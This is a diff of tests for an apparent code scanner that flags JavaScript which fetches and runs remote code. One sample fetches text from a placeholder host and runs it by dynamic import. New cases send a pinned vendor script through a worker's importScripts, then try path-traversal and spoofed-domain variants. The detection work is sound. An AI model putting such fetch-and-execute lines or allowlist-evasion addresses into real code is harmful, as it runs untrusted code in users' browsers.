@@ -307,3 +307,10 @@ def test_an_import_of_a_fetched_text_runs_it() -> None:
     source = "const t = await (await fetch('https://m.example.invalid/m')).text();\n"
     source += "await import(URL.createObjectURL(new Blob([t])));\n"
     assert "javascript-downloaded-execution" in found(source)
+
+
+def test_a_vendors_library_is_shown_where_a_worker_loads_it() -> None:
+    loads = "importScripts('https://{}');\n"
+    assert audit(loads.format("www.gstatic.com/firebasejs/11.0.0/firebase-app-compat.js")).verdict is Verdict.WARN
+    for address in ("www.gstatic.com/x.js", "www.gstatic.com/firebasejs/../x.js", "www.gstatic.com.x.invalid/a.js"):
+        assert audit(loads.format(address)).verdict is Verdict.FAIL
